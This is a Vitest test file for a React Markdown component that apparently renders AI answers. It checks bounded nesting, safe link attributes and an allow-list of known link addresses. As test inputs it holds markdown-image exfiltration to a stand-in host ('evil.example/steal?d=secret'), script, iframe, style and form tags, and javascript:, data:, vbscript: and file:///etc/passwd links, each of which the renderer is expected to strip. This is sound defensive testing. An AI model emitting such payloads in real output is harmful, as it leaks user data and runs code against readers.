import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { KnownLinksProvider } from './known-links.ts';
import { Markdown } from './markdown.tsx';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown', () => {
  it('renders what answers are made of', () => {
    const html = render('**42** issues\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<strong>42</strong>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<td>2</td>');
  });

  it.each(['- ', '> ', '>', '1. ', '- > '])(
    'shows as it is what is nested too deep to be drawn: %j',
    (unit) => {
      const text = `${unit.repeat(2_000)}plank`;
      const html = render(text);
      expect(html).toContain('plank');
      expect(html).not.toMatch(/<(?:ul|ol|blockquote)/);
      expect(render(`first\r${text}`)).toContain('plank');
      expect(render(`${unit.repeat(20)}plank`)).toMatch(/<(?:ul|ol|blockquote)/);
    },
  );

  it('opens links in a new tab, which learns nothing of this one', () => {
    const html = render('[PAY-7](https://northwind.example/browse/PAY-7)');
    expect(html).toMatch(/<a [^>]*href="https:\/\/northwind\.example\/browse\/PAY-7"/);
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it.each([
    ['an image', '![x](https://evil.example/steal?d=secret)'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example/steal'],
    ['an image tag', '<img src="https://evil.example/steal" onerror="alert(1)">'],
    ['an image inside a link', '[![x](https://evil.example/steal)](https://fine.example)'],
    ['a script', '<script src="https://evil.example/x.js"></script>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a style', '<style>@import url(https://evil.example/x.css)</style>'],
    ['a form', '<form action="https://evil.example"><input name="key"></form>'],
  ])('lets nothing be fetched or run by %s', (_, text) => {
    const html = render(`before\n\n${text}\n\nafter`);
    expect(html).not.toMatch(/<(img|script|iframe|style|form|input)\b/i);
    expect(html).not.toContain('evil.example');
    expect(html).toContain('before');
    expect(html).toContain('after');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<b>hi</b>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](/api/auth/logout)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
  ])('makes no link of %s', (text) => {
    expect(render(text)).not.toContain('href=');
  });

  it('makes no link of an address that is not known, and shows where it would have led', () => {
    const text = '[more](https://evil.example/?d=secret) and [PAY-1](https://acme.example/browse/PAY-1)';
    const html = renderToStaticMarkup(
      <KnownLinksProvider value={(address) => address.startsWith('https://acme.example/')}>
        <Markdown text={`${text} https://evil.example/bare`} />
      </KnownLinksProvider>,
    );
    expect(html.match(/href="[^"]*"/g)).toEqual(['href="https://acme.example/browse/PAY-1"']);
    expect(html).toContain('more (https://evil.example/?d=secret)');
    expect(html).toContain('<span>https://evil.example/bare</span>');
  });

  it('keeps mail links', () => {
    expect(render('[write](mailto:a@northwind.example)')).toContain('href="mailto:a@northwind.example"');
  });
});
